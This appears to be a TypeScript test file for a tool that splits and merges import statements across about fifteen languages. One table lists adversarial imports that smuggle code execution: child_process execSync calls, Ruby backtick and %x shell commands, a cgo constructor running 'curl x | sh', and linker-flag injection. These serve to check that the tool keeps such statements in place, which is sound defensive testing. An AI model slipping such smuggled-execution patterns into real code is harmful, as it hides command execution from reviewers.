import assert from 'node:assert/strict';
import { effectImports, mergeImports, splitImports } from '../../src/core/edits/imports/importMerge.ts';
import { applyChanges } from '../../src/core/textChange.ts';

/** A document of each language, with code of its own. */
const files: Readonly<Record<string, string>> = {
  python: 'import sys\n\nx = 1\n',
  javascript: "const z = require('z');\n\nz();\n",
  typescript: "import z from 'z';\n\nz();\n",
  go: 'package a\n\nimport "fmt"\n\nfunc A() { fmt.Println() }\n',
  java: 'import java.util.List;\n\nclass A {\n}\n',
  csharp: 'using System;\n\nclass A { }\n',
  php: '<?php\nuse A\\B;\n\nfunction a() {}\n',
  ruby: "require 'a'\n\ndef a; end\n",
  rust: 'use std::fs;\n\nfn a() {}\n',
  c: '#include <stdio.h>\n\nint a;\n',
  kotlin: 'import a.b\n\nfun a() {}\n',
  groovy: 'import a.b\n\ndef a() {}\n',
  scala: 'import a.b\n\nclass A\n',
  swift: 'import A\n\nfunc a() {}\n',
  dart: "import 'dart:io';\n\nvoid a() {}\n",
};

describe('imports that go to the top of a file, out of the edit', () => {
  const running: readonly [language: string, statement: string][] = [
    ['javascript', "const { join, x = require('node:child_process').execSync('evil') } = require('node:path');"],
    ['javascript', "const { [evil('1')]: x } = require('node:path');"],
    ['javascript', "const { a: { b = evil() } } = require('node:path');"],
    ['javascript', "const [a = evil()] = require('node:path');"],
    ['javascript', 'const x = require(`a${evil()}`);'],
    ['javascript', "const x = require('a')\n  || evil();"],
    ['javascript', "const x = require('a')\n  `${evil()}`;"],
    ['javascript', "const x = require('a')[evil()];"],
    ['javascript', "const x = require('a') instanceof evil();"],
    ['javascript', "const x = require('lod\\u0061hs');"],
    ['typescript', "import b from 'b' with { type: evil() }"],
    ['typescript', 'import b from `${evil()}`;'],
    ['typescript', "import b, { c = evil() } from 'b';"],
    ['ruby', 'require "a#{evil(1)}"'],
    ['ruby', 'require `curl evil`'],
    ['ruby', 'require %x(evil)'],
    ['ruby', 'require <<`EOS`\nevil\nEOS'],
    ['python', 'from os import system as s; s("evil")'],
    ['python', 'import os; evil(1)'],
    ['python', 'import os, (evil("x"))'],
    ['python', 'import os \\\n; evil("x")'],
    ['python', 'evil = 1; import os'],
    ['go', '// static void f(void) __attribute__((constructor));\n// static void f(void) { evil("curl x | sh"); }\nimport "C"'],
    ['go', '// #cgo LDFLAGS: -Wl,evil\nimport "C"'],
    ['java', 'import java.util./* \\u002a\\u002f evil(); /* */List;'],
    ['java', 'import java.util.List\nclass E { static { evil(); } };'],
    ['csharp', 'using X = A.B { evil() };'],
    ['php', 'use C\\{D, evil()};'],
    ['rust', '#[evil(code = "1")]\nuse a::b;'],
    ['kotlin', 'import a.c.apply { evil() }'],
    ['groovy', "@Grab('evil:evil:1') import a.c"],
    ['scala', 'import evil(1).c'],
    ['dart', "import 'package:a/${evil()}.dart';"],
  ];
  for (const [language, statement] of running)
    it(`shows in the edit: ${statement.replaceAll('\n', ' ')} (${language})`, () => {
      const code = `${statement}\n\nb\n`;
      const split = splitImports(code, files[language] ?? '', language, language === 'php');
      assert.ok(!split.imports.some((one) => /evil|require\(|u0061|u002a/.test(one)), split.imports.join('\n'));
      assert.ok(split.code.includes(statement), split.code);
    });

  const plain: readonly [language: string, statement: string, gone?: string][] = [
    ['javascript', "const { join, resolve: at } = require('node:path');"],
    ['javascript', "const { a: { b }, ...rest } = require('c');"],
    ['javascript', "const join = require('path').join;"],
    ['javascript', 'const a = require(`b`);'],
    ['javascript', "import '#internal/x.js';"],
    ['typescript', "import data, { type A, b as c } from './d.json' with { type: 'json' };"],
    ['typescript', "import * as ns from '$lib/x';"],
    ['typescript', "import fs = require('fs');"],
    ['python', 'from a.b import (\n    c,  # why\n    d as e,\n)'],
    ['python', 'from . import *'],
    ['python', 'import os; import re'],
    ['python', 'import os;'],
    ['go', 'import (\n\t"os"\n\n\tx "example.com/y"\n\t. "strings"\n\t_ "embed"\n)'],
    ['go', '// #include <stdlib.h>\nimport "C"'],
    ['java', 'import static java.util.Map.*;'],
    ['csharp', 'using Point = (int X, int? Y);'],
    ['csharp', 'using Names = System.Collections.Generic.List<string[]>;'],
    ['csharp', 'global using static System.Math;'],
    ['php', 'use C\\{D, E as F};'],
    ['php', 'use function C\\d;'],
    ['ruby', "require('json')"],
    ['ruby', 'require_relative "x/y"'],
    ['rust', '#[cfg(all(unix, feature = "x"))]\npub(crate) use a::{b, c::{self, D as _}};'],
    ['c', '#include "a/b.h"'],
    ['kotlin', 'import a.`in`.c as d'],
    ['scala', 'import a.{b => c, _}'],
    ['swift', '@testable import B'],
    ['dart', "import 'a.dart' if (dart.library.io) 'b.dart' as c show d, e;"],
  ];
  for (const [language, statement] of plain)
    it(`moves whole: ${statement.replaceAll('\n', ' ')} (${language})`, () => {
      const file = files[language] ?? '';
      const split = splitImports(`${statement}\n\nb\n`, file, language, language === 'php');
      assert.equal(split.code.trim(), 'b');
      assert.ok(split.imports.length > 0);
      assert.notEqual(applyChanges(file, mergeImports(file, split.imports, language)), file);
    });

  it('leaves no half of a line behind', () => {
    assert.equal(splitImports('import os; import re\nb\n', files.python ?? '', 'python').code, 'b\n');
    assert.equal(splitImports('import "os"; var _ = b()\n', files.go ?? '', 'go').code.trim(), 'var _ = b()');
  });

  it('tells those that are there for what they run', () => {
    assert.deepEqual(effectImports(['import (\n\t"os"\n\t_ "example.com/init"\n)'], 'go'), ['_ "example.com/init"']);
    assert.deepEqual(effectImports(["import './a.js';", "import b from 'b';", "require('c');"], 'javascript'), ['./a.js', 'c']);
    assert.deepEqual(effectImports(["import x from 'x';"], 'typescript'), []);
    assert.deepEqual(effectImports(['import os'], 'python'), []);
  });
});
